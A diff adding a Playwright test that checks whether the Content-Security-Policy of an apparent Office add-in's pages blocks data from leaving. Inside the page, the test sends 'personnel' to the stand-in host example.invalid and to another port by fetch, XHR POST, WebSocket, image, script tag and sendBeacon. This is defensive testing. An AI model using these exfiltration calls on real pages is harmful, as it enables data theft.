@@ -1,0 +1,119 @@
+import { copyFileSync, mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { chromium, type Browser } from "playwright-core";
+import { serveFolder } from "../browser/staticServer";
+import { tempDir } from "./support/cliRun";
+
+/**
+ * The pages' Content-Security-Policy at work in a real Chromium: each page, served as a host
+ * serves it, tries every way a script could send data away (fetch, XHR, a socket, a beacon, an
+ * image, a script, a form) to another host and to another port of this one. Every request the
+ * browser makes is recorded; none may leave the page's own origin, and each attempt must be
+ * stopped by the policy itself, not by a missing server. No bundle is built: the templates'
+ * policy is what the built pages carry.
+ */
+const ROOT = join(__dirname, "..", "..");
+const PAGES = {
+  "taskpane.html": "src/taskpane/taskpane.html",
+  "index.html": "src/preview/preview.html",
+  "help.html": "src/taskpane/help.html",
+};
+
+let browser: Browser;
+let server: { url: string; close: () => Promise<void> };
+
+beforeAll(async () => {
+  const dir = tempDir();
+  for (const [name, source] of Object.entries(PAGES)) copyFileSync(join(ROOT, source), join(dir, name));
+  mkdirSync(join(dir, "office"));
+  writeFileSync(join(dir, "office", "office.js"), "");
+  server = await serveFolder(dir);
+  browser = await chromium.launch({
+    executablePath: "/usr/bin/chromium",
+    args: [
+      "--headless",
+      "--no-sandbox",
+      "--disable-gpu",
+      "--disable-background-networking",
+      "--disable-component-update",
+      "--no-first-run",
+    ],
+  });
+}, 60_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+/** Runs in the page: each way out, to `target`; resolves once the policy has had its say. */
+function tryToLeave(target: string): Promise<string[]> {
+  const violations: string[] = [];
+  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
+  const attempts: Array<Promise<unknown>> = [
+    fetch(`${target}/fetch`).catch(() => undefined),
+    new Promise((resolve) => {
+      const xhr = new XMLHttpRequest();
+      xhr.onloadend = resolve;
+      try {
+        xhr.open("POST", `${target}/xhr`);
+        xhr.send("personnel");
+      } catch {
+        resolve(undefined);
+      }
+    }),
+    new Promise((resolve) => {
+      try {
+        const socket = new WebSocket(`${target.replace(/^http/, "ws")}/socket`);
+        socket.onerror = resolve;
+        socket.onclose = resolve;
+      } catch {
+        resolve(undefined);
+      }
+    }),
+    new Promise((resolve) => {
+      const img = new Image();
+      img.onerror = resolve;
+      img.onload = resolve;
+      img.src = `${target}/img.png`;
+    }),
+    new Promise((resolve) => {
+      const script = document.createElement("script");
+      script.onerror = resolve;
+      script.onload = resolve;
+      script.src = `${target}/script.js`;
+      document.head.appendChild(script);
+    }),
+  ];
+  navigator.sendBeacon(`${target}/beacon`, "personnel");
+  return Promise.all(attempts).then(
+    () => new Promise<string[]>((resolve) => setTimeout(() => resolve(violations), 100)),
+  );
+}
+
+test.each(Object.keys(PAGES))(
+  "%s: nothing reaches another host or port; the policy stops every attempt",
+  async (page) => {
+    const context = await browser.newContext({ serviceWorkers: "block" });
+    const requests: string[] = [];
+    await context.route("**/*", (route) => {
+      requests.push(route.request().url());
+      return route.request().url().startsWith(server.url) ? route.continue() : route.abort();
+    });
+    const tab = await context.newPage();
+    // Sockets bypass routing: the page reports each one it opens.
+    tab.on("websocket", (socket) => requests.push(socket.url()));
+    await tab.goto(server.url + page);
+    const other = new URL(server.url);
+    other.port = String(Number(other.port) + 1);
+    const directives = [
+      ...(await tab.evaluate(tryToLeave, "http://example.invalid")),
+      ...(await tab.evaluate(tryToLeave, other.origin)),
+    ];
+    await context.close();
+    expect(requests.filter((url) => !url.startsWith(server.url))).toEqual([]);
+    expect(new Set(directives)).toEqual(new Set(["connect-src", "img-src", "script-src-elem"]));
+    expect(directives.length).toBe(2 * 6);
+  },
+  30_000,
+);
